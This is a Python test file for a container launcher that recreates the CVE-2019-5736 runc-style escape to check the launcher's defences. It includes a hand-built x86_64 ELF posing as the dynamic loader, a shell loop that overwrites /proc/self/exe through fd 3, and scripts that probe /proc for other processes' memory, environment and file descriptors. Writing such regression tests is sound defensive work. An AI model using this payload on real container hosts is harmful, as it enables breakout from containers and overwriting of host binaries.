"""Attacks on the launcher from inside a container, with Docker's default capabilities. They must fail, and be real.

CVE-2019-5736: an image makes the runtime execute itself again inside the container, gets hold of /proc/self/exe, and
writes to it as soon as nobody executes it any more: that is the host's Python. The control case shows that the attack
works on a launcher without the defence (a throw-away copy of the interpreter is what gets overwritten).
"""

from __future__ import annotations

import os
import platform
import shutil
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from stackup.runtime import boot
from tests.kernel.runtime_lab import Lab, process, spec
from tests.support.waiting import eventually

pytestmark = pytest.mark.root

LOAD_ADDRESS = 0x1000_0000
# Second stage: tries to write through descriptor 3 until it can, or for two seconds.
OVERWRITE = (
    "n=0; while [ $n -lt 40 ]; do "
    "(echo pwned > /proc/self/fd/3) 2>/tmp/error && echo WRITTEN && exit; "
    "n=$((n+1)); sleep 0.05; done; cat /tmp/error; echo GAVE UP"
)


def evil_loader() -> bytes:
    """A static x86_64 program that poses as ld.so: open("/proc/self/exe"), then exec busybox sh with it as 3."""
    code_size = 64
    strings: dict[bytes, int] = {}
    at = LOAD_ADDRESS + 120 + code_size
    blob = b""
    for text in (b"/proc/self/exe", b"/bin/busybox", b"sh", b"-c", OVERWRITE.encode()):
        strings[text] = at + len(blob)
        blob += text + b"\0"
    blob += bytes(-(120 + code_size + len(blob)) % 8)
    argv = at + len(blob)
    blob += struct.pack("<4Q", strings[b"sh"], strings[b"-c"], strings[OVERWRITE.encode()], 0)
    code = b"\x48\xbf" + struct.pack("<Q", strings[b"/proc/self/exe"])  # mov rdi, path
    code += b"\x31\xf6\xb8\x02\x00\x00\x00\x0f\x05"  # xor esi, esi; mov eax, open; syscall
    code += b"\x48\xbf" + struct.pack("<Q", strings[b"/bin/busybox"])  # mov rdi, program
    code += b"\x48\xbe" + struct.pack("<Q", argv)  # mov rsi, argv
    code += b"\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05\x0f\x0b"  # xor edx, edx; mov eax, execve; syscall; ud2
    body = code.ljust(code_size, b"\x90") + blob
    header = b"\x7fELF\2\1\1" + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, LOAD_ADDRESS + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    total = 120 + len(body)
    return header + struct.pack("<IIQQQQQQ", 1, 7, 0, LOAD_ADDRESS, LOAD_ADDRESS, total, total, 4096) + body


def interpreter_path(program: Path) -> str:
    """PT_INTERP of an ELF program; "" for a static one."""
    data = program.read_bytes()
    offset, size, count = struct.unpack_from("<Q", data, 32)[0], *struct.unpack_from("<HH", data, 54)
    for number in range(count):
        kind, _, start, _, _, length = struct.unpack_from("<IIQQQQ", data, offset + number * size)
        if kind == 3:
            return data[start : start + length].rstrip(b"\0").decode()
    return ""


@pytest.fixture
def throw_away_python(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A copy of the interpreter for the launcher to run from."""
    real = Path(os.path.realpath(sys.executable))
    copy = tmp_path / "bin" / real.name
    copy.parent.mkdir()
    shutil.copy(real, copy)
    (tmp_path / "pyvenv.cfg").write_text(f"home = {real.parent}\n")
    monkeypatch.setattr(sys, "executable", str(copy))
    yield copy


def attack(lab: Lab, python: Path, entry: str, state_root: Path) -> tuple[str, bool]:
    """(what the attacker says, whether the copy of Python was changed)."""
    image = state_root / "image"
    shutil.copytree(lab.rootfs, image, symlinks=True)
    loader = image / interpreter_path(python).lstrip("/")
    loader.parent.mkdir(parents=True, exist_ok=True)
    loader.write_bytes(evil_loader())
    loader.chmod(0o755)
    (image / "script").write_text("#!/proc/self/exe\n")
    (image / "script").chmod(0o755)
    lab.rootfs = image
    before = python.read_bytes()
    running = lab.start(spec(process(entry)))
    hold = os.open(running.paths.fifo("stdout"), os.O_RDWR)  # or the attacker dies of SIGPIPE before it says anything
    lab.kill_launcher()  # while it lives, the kernel refuses to write to it (ETXTBSY): that is luck
    text = ""

    def finished() -> bool:
        nonlocal text
        text += lab.output(running)
        return "WRITTEN" in text or "GAVE UP" in text

    eventually(finished)
    os.close(hold)
    return text, python.read_bytes() != before


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attacker is x86_64 machine code")
@pytest.mark.parametrize("entry", ["/proc/self/exe", "/script"])
@pytest.mark.parametrize("defence", ["clone", "sealed copy", "none"])
def test_overwriting_the_interpreter(
    state_root: Path,
    busybox_root: Path,
    throw_away_python: Path,
    monkeypatch: pytest.MonkeyPatch,
    entry: str,
    defence: str,
) -> None:
    if not interpreter_path(throw_away_python):
        pytest.skip("this Python is static: it has no loader that an image could replace")
    if defence == "none":
        monkeypatch.setattr(boot, "protected_copy", lambda path: os.open(path, os.O_RDONLY | os.O_CLOEXEC))
    elif defence == "sealed copy":
        monkeypatch.setattr(boot, "protected_copy", boot._sealed_copy)
    lab = Lab(state_root, busybox_root)
    text, changed = attack(lab, throw_away_python, entry, state_root)
    lab.close()
    if defence == "none":
        assert "WRITTEN" in text, "the attack itself must work, or this test shows nothing"
        assert changed
    else:
        assert "GAVE UP" in text
        assert not changed


LOOK_AT_HELPERS = """
while [ ! -e /stop ]; do
  for p in /proc/[0-9]*; do
    case $p in /proc/1|/proc/$$) continue;; esac
    read -r comm 2>/dev/null < $p/comm || continue
    [ "$comm" = stackup ] || continue
    echo SEEN
    for what in exe fd/3 fd/4 root/etc/hostname cwd/etc/hostname mem environ maps; do
      true < $p/$what 2>/dev/null && read -r comm < $p/comm && [ "$comm" = stackup ] && echo OPENED $what
    done
  done
done 2>/dev/null
echo END
"""


def test_exec_helpers_cannot_be_looked_into(state_root: Path, busybox_root: Path) -> None:
    """On its way into the container the launcher's child is visible there, and still holds things of the host."""
    lab = Lab(state_root, busybox_root)
    running = lab.start(spec(process("sh", "-c", LOOK_AT_HELPERS)))
    for _ in range(60):
        assert lab.exec(running, "true") == (0, "")
    lab.exec(running, "touch", "/stop")
    lab.ended(running.id)
    words = lab.output(running).split()
    assert words.count("SEEN") >= 3, "the attacker must have had its chance"
    assert "OPENED" not in words
    lab.close()


def test_the_reaper_cannot_be_looked_into(state_root: Path, busybox_root: Path) -> None:
    lab = Lab(state_root, busybox_root)
    script = "for x in exe fd/0 root/etc/passwd mem environ maps; do true < /proc/1/$x && echo OPEN $x; done; echo END"
    running = lab.start(spec(process("sh", "-c", script)), init=True)
    lab.ended(running.id)
    assert lab.output(running).split() == ["END"]
    lab.close()


def test_launchers_are_not_dumpable(state_root: Path, busybox_root: Path) -> None:
    lab = Lab(state_root, busybox_root)
    assert os.readlink(f"/proc/{lab.pid}/exe") != os.path.realpath(sys.executable)
    with pytest.raises(OSError, match=r"Read-only file system|Text file busy"):
        os.open(f"/proc/{lab.pid}/exe", os.O_WRONLY)
    assert os.stat(f"/proc/{lab.pid}/mem").st_uid == 0
    lab.close()
